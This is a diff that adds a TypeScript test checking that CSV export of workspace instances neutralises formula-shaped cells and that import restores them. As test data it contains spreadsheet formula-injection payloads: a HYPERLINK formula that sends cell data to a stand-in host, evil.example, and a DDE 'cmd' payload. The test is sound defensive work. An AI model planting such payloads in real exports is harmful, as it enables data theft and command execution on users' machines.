@@ -174,4 +174,42 @@ describe('import/export round trips through the workspace', () => {
     expect(report.refused).toMatch(/password/);
     expect(ws.instances.list()).toHaveLength(2);
   });
+
+  it('csv: formula-shaped names and variables are neutralised on export and restored on import', async () => {
+    const ws = await openWorkspace(join(dir, 'hostile'));
+    const hyperlink = '=HYPERLINK("https://evil.example/?x="&C2,"Open")';
+    const dde = "=cmd|' /C calc'!A0";
+    await ws.instances.save({
+      ...ACME,
+      name: hyperlink,
+      variables: { customer: '@SUM(1+1)', region: '-1+2' },
+    });
+    await ws.instances.save({
+      name: dde,
+      url: 'https://globex.service-now.com',
+      authMethod: 'basic',
+      username: '+admin',
+      tags: ['=1+1'],
+    });
+    const file = join(dir, 'x.csv');
+    expect(await exportInstancesFile(ws, file)).toBe(2);
+    const text = await readFile(file, 'utf8');
+    // No cell of the file starts a formula: each such cell is quoted text behind a single quote.
+    for (const cell of [hyperlink, dde, '@SUM(1+1)', '-1+2', '+admin', '=1+1'])
+      expect(text).toContain(`"'${cell.replace(/"/g, '""')}"`);
+    expect(text).not.toMatch(/(^|,)[=+\-@]/m);
+
+    const target = await openWorkspace(join(dir, 'other'));
+    const report = await importInstancesFile(target, file);
+    expect(report.errors).toEqual([]);
+    const strip = (list: ReturnType<typeof ws.instances.list>) =>
+      list.map(({ createdAt: _c, updatedAt: _u, ...rest }) => rest);
+    expect(strip(target.instances.list())).toEqual(strip(ws.instances.list()));
+    expect(
+      target.instances
+        .list()
+        .map((e) => e.name)
+        .sort(),
+    ).toEqual([dde, hyperlink].sort());
+  });
 });
